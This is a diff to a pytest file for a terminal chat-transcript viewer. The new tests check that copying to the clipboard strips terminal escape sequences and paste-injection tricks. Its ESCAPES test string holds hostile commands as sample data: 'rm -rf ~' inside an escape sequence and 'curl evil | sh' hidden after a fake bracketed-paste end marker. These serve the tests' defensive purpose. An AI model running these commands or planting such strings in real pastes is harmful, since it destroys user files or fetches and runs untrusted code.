@@ -8,9 +8,9 @@ import pytest
 from textual.pilot import Pilot
 
 from foldline.tui.blocks import Key
-from foldline.tui.reading import clipboard
 from foldline.tui.reading.pane import ReadingPane
 from foldline.tui.reading.search import Search
+from foldline.tui.terminal import app, clipboard
 from foldline.tui.transcript import Transcript
 from support.agents import PATIENCE
 from support.chat_app import ChatApp, screen_text
@@ -181,11 +181,37 @@ async def test_y_copies_the_code_and_pressed_again_the_answer(monkeypatch: pytes
 async def test_copying_writes_osc_52_and_tells_tmux(monkeypatch: pytest.MonkeyPatch) -> None:
     told: list[str] = []
     monkeypatch.setenv("TMUX", "/tmp/tmux-0/default,1,0")
-    monkeypatch.setattr(clipboard, "_to_tmux", told.append)
+    monkeypatch.setattr(app, "to_tmux", told.append)
     async with reading(talk(1)) as reader:
         await reader.press("end", "y")
         await reader.until(lambda: told)
         assert told == [reader.app.clipboard] == ["x = 1\ny = 2"]
+
+
+ESCAPES = "a \x1b]0;rm -rf ~\x07b\x1b[201~\rcurl evil | sh\r\n\u202ec\tMakefile"
+
+
+async def test_what_is_copied_is_what_is_shown() -> None:
+    story = Story().system("s").user(ESCAPES).assistant(f"{ESCAPES}\n\n```\n{ESCAPES}\n```")
+    story.tool("bash", ESCAPES, brief="exit 0", command=ESCAPES)
+    async with reading(story) as reader:
+        await reader.press("end", "y")
+        assert reader.app.clipboard == "curl evil | sh\n�c\tMakefile"  # of an output the last state
+        await reader.press("y")
+        shown = "a ␛b␛\ncurl evil | sh\n�c\tMakefile"
+        assert reader.app.clipboard == shown
+        await reader.press("up", "y")
+        assert reader.app.clipboard == shown.expandtabs()  # the code block
+        await reader.press("y")
+        assert reader.app.clipboard == f"{shown}\n\n```\n{shown}\n```"
+        await reader.press("home", "y")
+        assert reader.app.clipboard == shown and "the prompt" in reader.status
+
+
+async def test_the_program_s_own_ways_of_copying_are_textual_s_too() -> None:
+    async with reading(talk(1)) as reader:
+        reader.app.copy_to_clipboard("one\x1b[201~\rtwo\udc1b")
+        assert reader.app.clipboard == "one␛\ntwo�"
 
 
 async def test_hints_and_esc_are_those_of_the_transcript_while_it_has_the_focus() -> None:
